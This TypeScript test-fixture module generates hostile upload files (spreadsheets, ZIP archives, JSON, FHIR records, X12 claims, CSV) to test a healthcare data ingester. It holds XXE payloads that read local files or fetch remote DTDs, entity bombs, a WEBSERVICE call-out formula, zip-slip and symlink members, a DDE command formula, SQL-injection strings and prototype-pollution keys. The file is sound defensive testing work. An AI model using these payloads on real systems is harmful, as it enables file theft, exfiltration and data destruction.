import { makeZip } from '@chartwright/analytics/testing/files';
import { lines, MEMBERS } from './attackers.ts';

/** Files that somebody means ill with. `at` is an address, `file` a path that nobody may read. */

type Where = { readonly at: string; readonly file: string };
export type Hostile = {
  readonly name: string;
  readonly filename: string;
  readonly content: (where: Where) => Buffer | string;
};

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const ROW = 'M0001,1950-01-01,F,021,PR001';

const cell = (place: string, inside: string) => `<c r="${place}" ${inside}</c>`;
const text = (value: string) => `t="inlineStr"><is><t>${value}</t></is>`;
const rowXml = (number: number, values: readonly string[]) =>
  `<row r="${number}">${values.map((value, at) => cell(`${String.fromCharCode(65 + at)}${number}`, value)).join('')}</row>`;
const rowsXml = (second: readonly string[]) => rowXml(1, MEMBERS.split(',').map(text)) + rowXml(2, second);
const GOOD = ROW.split(',').map(text);

/** A workbook of one sheet in its own words. */
function workbook({
  sheet = `<worksheet xmlns="${MAIN}"><sheetData>${rowsXml(GOOD)}</sheetData></worksheet>`,
  prolog = XML,
  target = 'worksheets/sheet1.xml',
  sheetName = 'members',
  relations = '',
  more = [] as readonly { readonly name: string; readonly content: Buffer | string }[],
}): Buffer {
  return makeZip([
    {
      name: '[Content_Types].xml',
      content: `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="rId1" Type="${RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: 'xl/workbook.xml',
      content: `${prolog}<workbook xmlns="${MAIN}" xmlns:r="${RELATIONS}"><sheets><sheet name="${sheetName}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="rId1" Type="${RELATIONS}/worksheet" Target="${target}"/>${relations}</Relationships>`,
    },
    { name: 'xl/worksheets/sheet1.xml', content: `${prolog}${sheet}` },
    ...more,
  ]);
}

const sheetOf = (second: readonly string[], after = '') =>
  `<worksheet xmlns="${MAIN}"><sheetData>${rowsXml(second)}</sheetData>${after}</worksheet>`;
const laughs = Array.from(
  { length: 12 },
  (_, at) => `<!ENTITY e${at} "${at === 0 ? 'ha' : `&e${at - 1};`.repeat(10)}">`,
).join('');

export const workbooks: readonly Hostile[] = [
  {
    name: 'an entity that is a file',
    filename: 'members.xlsx',
    content: ({ file }) =>
      workbook({
        prolog: `${XML}<!DOCTYPE x [<!ENTITY leak SYSTEM "file://${file}">]>`,
        sheet: sheetOf([text('&leak;'), ...GOOD.slice(1)]),
      }),
  },
  {
    name: 'an entity that is an address',
    filename: 'members.xlsx',
    content: ({ at }) =>
      workbook({
        prolog: `${XML}<!DOCTYPE x SYSTEM "${at}/x.dtd" [<!ENTITY % remote SYSTEM "${at}/y.dtd"> %remote;]>`,
        sheet: sheetOf([text('&leak;'), ...GOOD.slice(1)]),
      }),
  },
  {
    name: 'entities that grow without measure',
    filename: 'members.xlsx',
    content: () =>
      workbook({
        prolog: `${XML}<!DOCTYPE x [${laughs}]>`,
        sheet: sheetOf([text('&e11;'), ...GOOD.slice(1)]),
      }),
  },
  {
    name: 'a formula cell',
    filename: 'members.xlsx',
    content: ({ at }) =>
      workbook({
        sheet: sheetOf([`t="str"><f>WEBSERVICE("${at}")</f><v>M0001</v>`, ...GOOD.slice(1)]),
      }),
  },
  {
    name: 'a link to another workbook',
    filename: 'members.xlsx',
    content: ({ at, file }) =>
      workbook({
        relations: `<Relationship Id="rId2" Type="${RELATIONS}/externalLink" Target="${at}/other.xlsx" TargetMode="External"/><Relationship Id="rId3" Type="${RELATIONS}/sharedStrings" Target="file://${file}" TargetMode="External"/>`,
        sheet: sheetOf(
          GOOD,
          `<hyperlinks><hyperlink ref="A2" r:id="rId2" xmlns:r="${RELATIONS}"/></hyperlinks>`,
        ),
      }),
  },
  {
    name: 'a sheet that lies outside',
    filename: 'members.xlsx',
    content: ({ file }) => workbook({ target: `../../../../../../../..${file}` }),
  },
  {
    name: 'members that climb',
    filename: 'members.xlsx',
    content: ({ file }) =>
      workbook({ more: [{ name: `../../../../../../../..${file}`, content: 'overwritten' }] }),
  },
  {
    name: 'a sheet called by a name that every object has',
    filename: 'members.xlsx',
    content: () => workbook({ sheetName: 'constructor' }),
  },
  {
    name: 'a place past every column',
    filename: 'members.xlsx',
    content: () =>
      workbook({
        sheet: `<worksheet xmlns="${MAIN}"><sheetData><row r="1">${cell('ZZZZZZ99999999', text('x'))}</row></sheetData></worksheet>`,
      }),
  },
  {
    name: 'shared strings that are not there',
    filename: 'members.xlsx',
    content: () => workbook({ sheet: sheetOf(['t="s"><v>4711</v>', ...GOOD.slice(1)]) }),
  },
];

const member = (name: string, content = lines(MEMBERS, ROW)) => ({ name, content });
export const archives: readonly Hostile[] = [
  {
    name: 'a member that climbs',
    filename: 'x.zip',
    content: ({ file }) => makeZip([member(`../../../../../../../..${file}.csv`)]),
  },
  {
    name: 'a member of the root',
    filename: 'x.zip',
    content: ({ file }) => makeZip([member(`${file}.csv`)]),
  },
  {
    name: 'a link to a file',
    filename: 'x.zip',
    content: ({ file }) =>
      makeZip([{ ...member('members.csv', file), unixMode: 0o120777 }, member('others/members.csv')]),
  },
  {
    name: 'a device',
    filename: 'x.zip',
    content: () => makeZip([{ ...member('members.csv'), unixMode: 0o060666 }]),
  },
  {
    name: 'a member whose size is a lie',
    filename: 'x.zip',
    content: () => makeZip([{ ...member('members.csv'), size: 2 ** 31 }]),
  },
  {
    name: 'one member a thousand times and one',
    filename: 'x.zip',
    content: () => makeZip(Array.from({ length: 1_001 }, (_, at) => member(`${at}/members.csv`, 'a,b\n'))),
  },
  {
    name: 'an archive in it',
    filename: 'x.zip',
    content: () => makeZip([{ name: 'a.zip', content: makeZip([member('members.csv')]) }]),
  },
  {
    name: 'a name that is a formula',
    filename: 'x.zip',
    content: () =>
      makeZip([
        member("=cmd|' /C calc'!A0.csv", lines(MEMBERS, ROW, 'M2,x,F,021,P', 'M3,1950-01-01,F,021,P')),
      ]),
  },
  {
    name: 'a name that every object has',
    filename: 'x.zip',
    content: () => makeZip([member('constructor'), member('__proto__')]),
  },
  { name: 'no end', filename: 'x.zip', content: () => makeZip([member('members.csv')]).subarray(0, -30) },
];

const patient = (more: object) => ({
  resourceType: 'Patient',
  id: 'M0001',
  gender: 'female',
  birthDate: '1950-01-01',
  ...more,
});
const ndjson = (...all: readonly object[]): string => lines(...all.map((each) => JSON.stringify(each)));
const row = (more: string): string =>
  `[{"member_id":"M0001","date_of_birth":"1950-01-01","sex":"F","zip3":"021","pcp_provider_id":"PR001"${more}}]`;

export const objects: readonly Hostile[] = [
  {
    name: 'a prototype',
    filename: 'members.json',
    content: () => row(',"__proto__":{"sex":"M","polluted":true}'),
  },
  {
    name: 'a constructor',
    filename: 'members.json',
    content: () => row(',"constructor":{"prototype":{"sex":"M"}}'),
  },
  {
    name: 'a name with SQL',
    filename: 'members.json',
    content: () => row(`,"x\\"); DROP TABLE stage; --":1`),
  },
  {
    name: 'a text of every sign',
    filename: 'members.json',
    content: () => row(',"x":"\\u0000\\ud800\\uffff\\u001b[2J"'),
  },
  { name: 'lists 100,000 deep', filename: 'members.json', content: () => '['.repeat(100_000) },
  {
    name: 'objects 100,000 deep',
    filename: 'members.json',
    content: () => '{"a":'.repeat(100_000) + '}'.repeat(100_000),
  },
  {
    name: 'ends without beginnings',
    filename: 'members.json',
    content: () => `${']}'.repeat(1_000)}${row('')}`,
  },
  {
    name: '5,000 names',
    filename: 'members.json',
    content: () => row(Array.from({ length: 5_000 }, (_, at) => `,"n${at}":1`).join('')),
  },
  {
    name: 'a resource of a prototype',
    filename: 'Patient.ndjson',
    content: () =>
      ndjson(patient({}), { resourceType: 'constructor', id: '1' }, { resourceType: '__proto__', id: '2' }),
  },
  {
    name: 'a gender that every object has',
    filename: 'Patient.ndjson',
    content: () =>
      ndjson(
        patient({}),
        patient({ id: 'M2', gender: 'constructor' }),
        patient({ id: 'M3', gender: '__proto__' }),
      ),
  },
  {
    name: 'an id that is a path',
    filename: 'Patient.ndjson',
    content: ({ file }) =>
      ndjson(patient({ id: `../..${file}` }), patient({ id: "x'; DROP TABLE members; --" })),
  },
  {
    name: 'a reference that is an address',
    filename: 'Patient.ndjson',
    content: ({ at }) =>
      ndjson(
        patient({
          generalPractitioner: [{ reference: `${at}/Practitioner/1` }],
          text: { div: `<img src="${at}">` },
        }),
      ),
  },
  {
    name: 'fields of other types',
    filename: 'Patient.ndjson',
    content: () =>
      ndjson(
        patient({}),
        patient({ id: { a: 1 }, gender: [[['female']]], birthDate: 19500101, address: 'x' }),
      ),
  },
];

const ISA = `ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *260101*1200*^*00501*000000001*0*P*:~`;
const claim835 = (body: string): string =>
  `${ISA}GS*HP*S*R*20260101*1200*1*X*005010X221A1~ST*835*0001~${body}SE*1*0001~GE*1*1~IEA*1*000000001~`;
const paid = 'CLP*C1*1*100*80**MC*1~NM1*QC*1*A*B****MI*M0001~DTM*232*20250101~SVC*HC:99213*100*80~';
export const transactions: readonly Hostile[] = [
  {
    name: 'segments that every object has',
    filename: 'x.835',
    content: () =>
      claim835(`${paid}__proto__*x~constructor*x~toString*x~hasOwnProperty*x~__defineGetter__*x~`),
  },
  {
    name: 'a status that every object has',
    filename: 'x.835',
    content: () => claim835(`${paid}CLP*C2*constructor*1*1~NM1*QC*1*A*B****MI*M2~DTM*232*20250101~`),
  },
  {
    name: 'ids that are SQL and paths',
    filename: 'x.835',
    content: ({ file }) =>
      claim835(`CLP*x'; DROP TABLE claims; --*1*100*80~NM1*QC*1*A*B****MI*${file}~DTM*232*20250101~`),
  },
  {
    name: 'a transaction of a prototype',
    filename: 'x.835',
    content: () =>
      `${ISA}ST*constructor*0001~CLP*C1*1*1*1~SE*1*0001~ST*__proto__*0002~CLP*C1*1*1*1~SE*1*0002~`,
  },
  { name: 'no segment that ends', filename: 'x.835', content: () => ISA + 'CLP*'.repeat(100_000) },
  {
    name: 'marks that are letters',
    filename: 'x.835',
    content: () => `${ISA.replaceAll('*', 'A').slice(0, 105)}~CLPAC1A1A1A1~`,
  },
  {
    name: 'a professional claim of prototypes',
    filename: 'x.837',
    content: () =>
      `${ISA}ST*837*0001*005010X222A1~NM1*IL*1*A*B****MI*M0001~CLM*C1*100***11:B:1~DTP*472*D8*20250101~__proto__*1~valueOf*1~HI*__proto__:x~SE*1*0001~`,
  },
];

const bytes = (...all: readonly number[]): Buffer => Buffer.from(all);
export const texts: readonly Hostile[] = [
  {
    name: 'zero bytes',
    filename: 'members.csv',
    content: () => lines(MEMBERS, ROW, 'M\u00002,1950-01-01,F,021,P', '\u0000\u0000,,,,'),
  },
  {
    name: 'a zero byte far down',
    filename: 'members.csv',
    content: () => lines(MEMBERS, `${ROW}\n`.repeat(20_000), 'M\u00002,1950-01-01,F,021,P'),
  },
  {
    name: 'quotes that never end',
    filename: 'members.csv',
    content: () => lines(MEMBERS, `"${ROW}`.repeat(1_000)),
  },
  { name: 'a mark of order alone', filename: 'members.csv', content: () => bytes(0xef, 0xbb, 0xbf) },
  {
    name: 'half of UTF-16',
    filename: 'members.csv',
    content: () =>
      Buffer.concat([bytes(0xff, 0xfe), Buffer.from(lines(MEMBERS, ROW), 'utf16le').subarray(0, -1)]),
  },
  { name: 'a header alone', filename: 'members.csv', content: () => `${MEMBERS}\n` },
  {
    name: '5,000 columns',
    filename: 'members.csv',
    content: () => lines(Array.from({ length: 5_000 }, (_, at) => `c${at}`).join(','), ','.repeat(4_999)),
  },
  {
    name: 'one column 3,000 times',
    filename: 'members.csv',
    content: () => lines('member_id,'.repeat(1_999), 'M1,'.repeat(1_999)),
  },
  {
    name: 'line ends of every kind',
    filename: 'members.csv',
    content: () => `${MEMBERS}\r${ROW}\n\r${ROW}\u2028${ROW}\u0085${ROW}\r\n`,
  },
  {
    name: 'escapes of a terminal',
    filename: 'members.csv',
    content: () => lines(MEMBERS, ROW, '\u001b]8;;file:///etc/passwd\u0007x,1950-01-01,F,021,P'),
  },
];
